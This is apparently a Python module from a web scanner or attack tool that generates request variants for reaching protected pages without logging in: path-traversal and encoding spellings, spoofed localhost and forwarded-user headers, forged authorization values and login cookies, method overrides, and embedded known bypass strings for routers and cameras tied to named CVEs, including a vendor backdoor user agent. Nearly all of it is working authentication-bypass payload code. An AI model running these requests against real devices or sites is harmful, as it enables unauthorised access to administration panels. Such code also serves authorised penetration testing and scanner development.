"""Other ways of asking for a page that some guards do not recognise: spellings of the path, headers, methods.

Headers that do not get into each other's way go out together; where such a request opens a page, each is tried alone.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from typing import Final

_FORM: Final = {"Content-Type": "application/x-www-form-urlencoded"}
_HERE: Final = "127.0.0.1"
_ORIGINS: Final = {
    **dict.fromkeys(
        ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "X-Originating-IP", "X-Remote-Addr", "True-Client-IP"), _HERE
    ),
    "Forwarded": f"for={_HERE}",
}
_BACK_DOOR: Final = "xmlset_roodkcableoj28840ybtide"
"""The user agent that the web servers of some routers take for their own maker's program (CVE-2013-6026)."""
_OPENERS: Final = "auth=YWRtaW46MTEK&images/.css"
"""In one query: a value that cameras took for a log-in (CVE-2017-7921), a folder whose name anywhere in the address
opened home gateways (CVE-2018-10561), and the ending of a file that a guard lets everybody read."""
_MOST_COOKIES: Final = 4


@dataclass(frozen=True, slots=True, kw_only=True)
class Variant:
    """One request that may come out at the same page.

    Attributes:
        bare: whether it goes out in HTTP/1.0 and names no host.
    """

    method: str
    path: str
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    body: bytes = b""
    bare: bool = False

    @property
    def words(self) -> str:
        """How it is told: method, path, and the headers that matter."""
        told = [f"{name}: {value}" for name, value in self.headers.items() if name != "Content-Type"]
        told += ["HTTP/1.0"] * self.bare
        return f"{self.method} {self.path}" + (f" [{'; '.join(told)}]" if told else "")

    def apart(self) -> tuple[Variant, ...]:
        """Return the same once for each header that matters, where it has several."""
        named = [name for name in self.headers if name != "Content-Type"]
        if len(named) < 2:  # noqa: PLR2004  # alone already
            return (self,)
        kept = {name: value for name, value in self.headers.items() if name not in named}
        return tuple(replace(self, headers={name: self.headers[name], **kept}) for name in named)


def spellings(path: str, public: str, folder: str, origin: str) -> Iterator[Variant]:
    """Yield other spellings of a path.

    Args:
        path: the page.
        public: a page that anybody may read (the log-in page).
        folder: a folder that anybody may read, without its last slash.
        origin: scheme, host and port.
    """
    place, mark, query = path.partition("?")
    tail = f"{mark}{query}"
    head, _, last = place.rpartition("/")
    spelt = [
        f"/{place}",
        f"{head}//{last}" if head else f"///{last}",
        f"/.{place}",
        f"{head}/./{last}",
        f"{public.rstrip('/')}/..{place}" if public != "/" else f"/x/..{place}",
        # a gateway in front takes the parameter for part of a name, the server behind goes up (as in CVE-2020-5902)
        f"{public.rstrip('/')}/..;{place}" if public != "/" else f"/x/..;{place}",
        # the guard sees a folder that is open, the server goes up from it (as in CVE-2021-20090)
        f"{folder}/..%2f{place[1:]}",
        f"/%2e{place}",
        f"{place}/" if last else f"{place}index.html",
        f"{place};a=b",
        f"{place}/.",
        f"{place}%20",
        f"{place}.json",
        f"{place}?{_OPENERS}",
        f"{place}/x.css" if last else f"{place}x.css",
        f"{origin}{place}",
    ]
    if last:
        spelt += [f"{place}.", f"{head}/{last.upper()}", place.upper(), f"{head}/%{ord(last[0]):02x}{last[1:]}"]
    if head:
        spelt.append(f"/%{ord(place[1]):02x}{place[2:]}")
    for one in dict.fromkeys(spelt):
        if one != place:
            yield Variant(method="GET", path=one if "?" in one else one + tail)
    yield Variant(method="GET", path=path, bare=True)


def headers(path: str, public: str, origin: str, user: str, cookies: Iterable[str]) -> Iterator[Variant]:
    """Yield requests whose headers claim another path, another origin, a log-in or a session.

    Args:
        path: the page.
        public: a page that anybody may read.
        origin: scheme, host and port.
        user: the administrator's name.
        cookies: names of the cookies that a session has.
    """
    yield Variant(method="GET", path=public, headers={"X-Original-URL": path, "X-Rewrite-URL": path})
    yield Variant(method="GET", path=path, headers=_ORIGINS)
    claims = {"Referer": f"{origin}/", "X-Requested-With": "XMLHttpRequest", "User-Agent": _BACK_DOOR}
    claims |= dict.fromkeys(("X-Remote-User", "X-Forwarded-User", "Remote-User"), user)
    yield Variant(method="GET", path=path, headers=claims)
    yield Variant(method="GET", path=path, headers={"Host": "localhost"})
    for value in ("Basic Og==", "Basic ", "Bearer null"):
        yield Variant(method="GET", path=path, headers={"Authorization": value})
    empty = "".join(f"; {name}=" for name in list(cookies)[:_MOST_COOKIES])
    said = f"loggedin=1; logged_in=true; auth=1; admin=1; user=admin{empty}"
    yield Variant(method="GET", path=path, headers={"Cookie": said})


def methods(path: str) -> Iterator[Variant]:
    """Yield requests by other methods that may show the page; their bodies are empty or hold nothing to be taken."""
    yield Variant(method="OPTIONS", path=path)
    yield Variant(method="PROPFIND", path=path)
    yield Variant(method="get", path=path)
    override = dict.fromkeys(("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"), "GET")
    yield Variant(method="POST", path=path, headers={**override, **_FORM})
